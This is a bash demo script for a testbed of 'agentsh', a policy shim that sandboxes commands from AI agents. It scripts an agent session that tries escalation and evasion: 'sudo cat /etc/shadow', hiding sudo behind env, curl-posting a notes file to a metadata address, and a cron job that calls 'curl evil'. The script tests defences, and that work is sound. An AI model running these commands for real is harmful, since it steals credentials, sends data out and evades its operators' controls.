# A short scripted agent session through the shim, inside the testbed VM (scripts/demo.sh).
# Every step is a command an AI agent might send through a sandbox API (`bash -c ...`, stdin not
# a TTY, so the shim enforces because force=true). Each prints what happened and why.
source /opt/agentsh-testbed/lib/standins.env
B=$'\e[1m' G=$'\e[32m' R=$'\e[31m' Y=$'\e[33m' N=$'\e[0m'
[ -t 1 ] || { B= G= R= Y= N=; }

# why_policy OP PATH [ARGS]: the rule that decides, from `agentsh policy-test`.
why_policy() {
  local j
  if [ -n "${3:-}" ]; then j=$(agentsh policy-test --json --op "$1" --path "$2" --args "$3" 2>/dev/null)
  else j=$(agentsh policy-test --json --op "$1" --path "$2" 2>/dev/null); fi
  printf '%s' "$j" | /usr/bin/python3 -c 'import json,sys
try:
    d=json.load(sys.stdin)
    dec = d["policy_decision"] + ("" if d["decision"] == d["policy_decision"] else " (enforced as %s)" % d["decision"])
    print("policy: %s by rule %s%s" % (dec, d["rule"], (" — " + d["reason"]) if d.get("reason") else ""))
except Exception: print("policy: (policy-test unavailable)")'
}

step=0
agent() { # agent DESCRIPTION COMMAND
  step=$((step + 1))
  printf "\n%s%d. %s%s\n   \$ bash -c '%s'\n" "$B" "$step" "$1" "$N" "$2"
  local out err rc
  out=$(timeout 30 bash -c "$2" </dev/null 2>/tmp/demo.err); rc=$?
  err=$(cat /tmp/demo.err)
  [ -z "$out" ] || printf '%s\n' "$out" | head -5 | sed 's/^/   | /'
  [ -z "$err" ] || printf '%s\n' "$err" | head -3 | sed 's/^/   ! /'
  LAST_RC=$rc LAST_OUT=$out LAST_ERR=$err
}
verdict() { # verdict allowed|blocked WHY
  if [ "$1" = allowed ]; then printf '   %s→ allowed%s (exit %s). %s\n' "$G" "$N" "$LAST_RC" "$2"
  else printf '   %s→ blocked%s (exit %s). %s\n' "$R" "$N" "$LAST_RC" "$2"; fi
}
not_yet() { printf '   %s→ NOT blocked yet%s (exit %s): %s\n' "$Y" "$N" "$LAST_RC" "$1"; }

echo "${B}agentsh demo: an agent session on a VM governed by agentsh${N}"
echo "policy: /etc/agentsh/policies/default.yaml (exe.dev's), /bin/bash is the agentsh shim"

agent "The agent looks around" 'cd /root && pwd && ls -a | head -3'
verdict allowed "$(why_policy exec ls)"

agent "It writes a note in its workspace" 'echo "todo: fix the parser" > /root/notes.txt && cat /root/notes.txt'
verdict allowed "$(why_policy write /root/notes.txt)"

agent "It runs some Python" 'python3 -c "import platform; print(\"python\", platform.python_version())"'
verdict allowed "$(why_policy exec python3)"

agent "It tries to become root with sudo" 'sudo cat /etc/shadow'
if [ "$LAST_RC" = 126 ]; then verdict blocked "$(why_policy exec sudo). The command never started."
else not_yet "sudo ran (exit $LAST_RC)"; fi

agent "It tries to hide sudo behind env" 'env sudo id'
if [ "$LAST_RC" = 126 ]; then verdict blocked "wrappers like env are unwrapped before the decision."
else not_yet "env sudo ran (exit $LAST_RC)"; fi

hits_before=$(grep -c '^forbidden' "$TESTBED_OUT/standins.log" 2>/dev/null)
agent "It tries to send the notes to the cloud metadata service" "curl -s -m 5 -d @/root/notes.txt http://$METADATA_ADDR/latest/"
hits_after=$(grep -c '^forbidden' "$TESTBED_OUT/standins.log" 2>/dev/null)
if [ "$hits_after" = "$hits_before" ] && [[ $LAST_OUT != *"$FORBIDDEN_MARKER"* ]]; then
  verdict blocked "$(why_policy connect "$METADATA_ADDR:80"). Nothing reached the address."
else not_yet "the request reached the stand-in for $METADATA_ADDR (network enforcement is issue 6)"; fi

agent "It tries to plant a cron job in /etc" 'echo "* * * * * root curl evil" > /etc/cron.d/agent'
if [ ! -e /etc/cron.d/agent ] && [ "$LAST_RC" != 0 ]; then verdict blocked "$(why_policy write /etc/cron.d/agent)"
else rm -f /etc/cron.d/agent; not_yet "the file was written (kernel file enforcement is issue 8; $(why_policy write /etc/cron.d/agent))"; fi

agent "It deletes its note" 'rm /root/notes.txt && ls /root/notes.txt'
if agentsh trash list 2>/dev/null | grep -q notes.txt; then
  verdict allowed "$(why_policy delete /root/notes.txt): the file went to the trash."
  tok=$(agentsh trash list 2>/dev/null | awk '/notes.txt/ {print $1; exit}')
  agentsh trash restore "$tok" >/dev/null 2>&1 && [ -e /root/notes.txt ] && printf '   the operator restores it: %s$ agentsh trash restore %s%s → %s\n' "$B" "$tok" "$N" "$(cat /root/notes.txt)"
else
  not_yet "the file is gone for good (soft delete and the trash are issue 5; $(why_policy delete /root/notes.txt))"
fi
echo
echo "${B}done.${N} The audit trail of this session is in /var/lib/agentsh/events.db inside the VM."
